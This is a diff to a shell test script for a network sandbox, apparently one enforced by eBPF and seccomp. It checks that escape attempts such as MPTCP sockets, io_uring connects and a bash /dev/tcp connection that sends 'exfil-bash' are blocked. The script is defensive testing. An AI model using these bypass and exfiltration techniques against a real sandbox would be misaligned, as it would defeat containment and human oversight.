@@ -18,7 +18,7 @@ tcp6() {
 # Ways that no sandbox has: the control is a plain connection.
 never() {
 	local name=$1 how=$2 layer=$3; shift 3
-	try "$name" layer="$layer" attempt="$A $how" harm="arrived tcp $D 4000" control="$A connect $OPEN 4000" "$@"
+	try "$name" layer="$layer" attempt="$how" harm="arrived tcp $D 4000" control="$A connect $OPEN 4000" "$@"
 }
 tcp "IPv4 literal" connect
 tcp6 "IPv6 literal" connect
@@ -55,14 +55,14 @@ try "another binary" layer=ebpf attempt="exec 3<>/dev/tcp/$OPEN/4002" harm="arri
 try "another binary to an allowed address and port" layer=ebpf box=a \
 	attempt="timeout 3 bash -c 'exec 3<>/dev/tcp/$OPEN/4000; echo exfil-bash >&3; head -c 3 <&3'" harm='said exf' \
 	control="$A connect $OPEN 4000" log="action=deny dst_host=$OPEN dst_port=4000 binary=$(real bash) deny_reason=\"binary not in policy direct\""
+fresh; own
+never "MPTCP" "$OWN probe mptcp $D 4000" seccomp host="no_socket 2 1 262 MPTCP" log="$SOCKET_LOG"
+fresh; own
+never "MPTCP with MSG_FASTOPEN" "$OWN mptcpfo $D 4000" seccomp host="no_socket 2 1 262 MPTCP" log="$SOCKET_LOG"
 fresh
-never "MPTCP" "probe mptcp $D 4000" seccomp host="no_socket 2 1 262 MPTCP" log="action=deny .*binary=$A .*protocol not allowed \(mptcp\)"
+never "io_uring connect" "$A uring $D 4000" seccomp host=no_uring
 fresh
-never "MPTCP with MSG_FASTOPEN" "mptcpfo $D 4000" seccomp host="no_socket 2 1 262 MPTCP"
-fresh
-never "io_uring connect" "uring $D 4000" seccomp host=no_uring
-fresh
-never "io_uring socket and connect" "uring $D 4000 own" seccomp host=no_uring
+never "io_uring socket and connect" "$A uring $D 4000 own" seccomp host=no_uring
 no_uring() {
 	local v
 	v=$(cat /proc/sys/kernel/io_uring_disabled 2>/dev/null)
